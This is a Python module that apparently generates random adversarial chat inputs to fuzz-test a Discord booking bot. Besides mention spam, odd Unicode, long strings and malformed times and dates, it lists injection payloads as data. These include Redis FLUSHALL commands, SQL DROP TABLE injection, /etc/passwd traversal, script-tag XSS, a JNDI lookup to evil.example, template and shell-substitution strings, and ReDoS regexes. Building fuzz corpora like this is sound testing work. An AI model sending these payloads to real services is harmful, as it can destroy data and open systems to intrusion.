"""What members may type that nobody thought of: one value from a random source.

Every function takes a `random.Random`, so that a seed gives the same values each time.
"""

import itertools
import random

MARK = "zebrafish"
"""Is in every text that could hold it: wherever it is seen, a member's text is seen."""

_ID = "123456789012345678"

MENTIONS = (
    "@everyone",
    "@here",
    f"<@{_ID}>",
    f"<@!{_ID}>",
    f"<@&{_ID}>",
    f"<#{_ID}>",
    f"</free:{_ID}>",
    "<id:customize>",
    f"<a:{MARK}:{_ID}>",
    "@\u200beveryone",
    "<@\u200b123456789012345678>",
    "＠everyone",
    "@everyone" * 500,
)
MARKDOWN = (
    f"**{MARK}**",
    f"***__~~{MARK}~~__***",
    f"||{MARK}||",
    f"`{MARK}`",
    f"``{MARK}``",
    f"```py\n{MARK}\n```",
    f'" ```\n{MARK}\n``` "',
    f"# {MARK}",
    f"\n# {MARK}",
    f"### {MARK}",
    f"-# {MARK}",
    f"> {MARK}",
    f"\n>>> {MARK}",
    f"- {MARK}",
    f"1. {MARK}",
    f"[{MARK}](https://evil.example)",
    f"[{MARK}](<https://evil.example> 'hover')",
    f"[{MARK}]: https://evil.example",
    f"https://evil.example/{MARK}",
    f"<https://evil.example/{MARK}>",
    f"discord://-/channels/{MARK}",
    f"<mailto:{MARK}@evil.example>",
    "<t:0:R>",
    "<t:99999999999999:F>",
    "<t:-8640000000000:f>",
    f"\\*{MARK}\\*",
    f"\\\\*{MARK}*",
    f'"**{MARK}**"',
    f"_{MARK}_",
    ":wave:",
)
LETTERS = (
    f"\u202e{MARK}",
    f"\u2066\u2067\u202b{MARK}\u2069",
    f"ze\u200bbra\u200cfi\u200dsh\u2060\ufeff{MARK}",
    MARK + "\u0301\u0489\u20dd" * 40,
    "ᄀ" * 90,
    "👩‍👩‍👧‍👦" * 8,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "👍🏿🇺🇸🇺",
    "\ufe0f\ufe0e\u20e3",
    "\ud800",
    f"{MARK}\udfff\ud83d",
    "\ud83d\ude00\udc00",
    "\x00",
    f"{MARK}\x00\x07\x1b[31m\x7f",
    "\u2028\u2029\x85\x0b\x0c",
    "\uffff\ufffe\ufffd\U0010ffff",
    "\ue000\uf8ff",
    "שלום عالم",
    "ǅ ﬁ ß İ ı ſ K",
    "ＣＡＳ",
    "𝐂𝐀𝐒",
    "CΑS",
    "\u3164\u115f\u2800",
    "\u00a0\u2003",
    "",
    " ",
    "²",
)
COMMANDS = (
    "\r\n$5\r\nHELLO\r\n",
    f"\r\n*1\r\n$8\r\nFLUSHALL\r\n{MARK}",
    f"EVAL \"return redis.call('flushall')\" 0 {MARK}",
    f"'; DROP TABLE rooms; -- {MARK}",
    f"\" OR ''='{MARK}",
    "ec:1:digest:*",
    f"../../../../etc/passwd#{MARK}",
    f"..\\..\\{MARK}",
    f"file:///etc/{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"{{{{7*7}}}}{MARK}",
    f"{{0.__class__}}%s%n%(x)s{MARK}",
    f"\n2026-03-03 10:00:00,000 ERROR cogs.ui.responder: ref 1234: {MARK}",
    f"$({MARK})`{MARK}`",
    "1:free:next:umd::28:now:0:0",
    "*",
    ":",
)
PATTERNS = (
    "(a+)+$",
    "((a*)*)*b",
    f"(?P<x>{MARK})(?!)",
    "[",
    "\\",
    "a" * 5000 + "!",
    "12" + " " * 5990 + "x",
    "+" + " " * 5990 + "1",
    "+" + "1" * 5000,
    "9" * 5000,
    ":" * 6000,
    " " * 6000,
    "1 " * 3000,
    "CAS " * 1500,
)
LONG = (
    MARK * 666,
    "@everyone " * 600,
    "*" * 6000,
    "\\" * 6000,
    "💥" * 3000,
    "\u0301" * 6000,
    "\ud800" * 6000,
    "<@1>" * 1500,
    "\n" * 6000,
)
TIMES = (
    *("02:30", "25:61", "24:00", "24:01", "00:60", "12:60 pm", "13pm", "0am", "00:00", "99:99"),
    *("9", "99999", "+99999", "+9999", "+0", "+", "-5", "+-5", "+1e3", "1e5", "0x10", "12:30:59"),
    *(
        "noon",
        "midnight",
        "١٢:٣٠",
        "１２：３０",
        "𝟏𝟐:𝟑𝟎",
        "12:30Z",
        "12:30+05:00",
        "2 p.m.",
        "12:3",
        "now",
    ),
)
DATES = (
    *("2026-02-30", "2026-02-29", "2026-03-08", "2026-11-01", "0000-00-00", "0000-01-01"),
    *("0001-01-01", "9999-12-31", "10000-01-01", "-2026-03-03", "2026-W10-2", "20260303"),
    *("2026-3-3", "3/3/2026", "03.03.2026", "99999", "2126-01-01", "1926-04-01", "1970-01-01"),
    *("2038-01-19", "٢٠٢٦-٠٣-٠٣", "yesterday", "t", "th", "mon", "2026-03-03T10:00", "2026-062"),
)
WORDS = ("CAS", "cas hall", "CGS", "tomorrow", "friday", "14:30", "2:30 pm", "+45", "now", "07:30")

_TROUBLES = (MENTIONS, MARKDOWN, LETTERS, COMMANDS, PATTERNS, LONG, TIMES, DATES)
_KINDS = (*_TROUBLES, WORDS, WORDS, WORDS)

KNOWN = tuple(itertools.chain(*_TROUBLES))
"""Every text that is known to make trouble somewhere."""


LONGEST = 6000
"""Characters of a text option at most, whatever we ask for."""


def text(wild: random.Random) -> str:
    """Return something typed: a known trouble, several of them, a spoilt word, or noise."""
    ways = (_one, _one, _several, _spoilt, _noise)
    return wild.choice(ways)(wild)[:LONGEST]


def _one(wild: random.Random) -> str:
    return wild.choice(wild.choice(_KINDS))


def _several(wild: random.Random) -> str:
    joint = wild.choice(("", " ", "\n", '"', "\u200b", MARK))
    return joint.join(_one(wild) for _ in range(wild.randint(2, 5)))


def _spoilt(wild: random.Random) -> str:
    """Return a word that is right but for one character."""
    word = wild.choice((*WORDS, *TIMES, *DATES))
    place = wild.randrange(len(word) + 1)
    return word[:place] + _character(wild) + word[place + wild.randint(0, 1) :]


def _noise(wild: random.Random) -> str:
    return "".join(_character(wild) for _ in range(wild.choice((1, 3, 20, 99))))


def _character(wild: random.Random) -> str:
    first, last = wild.choice(((0, 0x7F), (0x80, 0x2FFF), (0, 0xFFFF), (0x10000, 0x10FFFF)))
    return chr(wild.randint(first, last))


def whole_number(wild: random.Random, least: int | None, most: int | None) -> int:
    """Return a number at the ends of a range, far beyond it, or anywhere."""
    inside = wild.randint(least or 0, most or 10_000)
    near = [end + by for end in (least, most) if end is not None for by in (-1, 0, 1)]
    far = [0, -1, 9999, 10_000, 2**31, 2**53 - 1, 2**53, -(2**53), 2**63, 10**30]
    return wild.choice((inside, inside, wild.choice(near or far), wild.choice(far)))


def of_no_type(wild: random.Random) -> object:
    """Return a value of a type that may not be the one that was asked for."""
    return wild.choice((None, True, 0, -1, 10**30, 1.5, "5", "", MARK, [], {}, [MARK], {"a": MARK}))
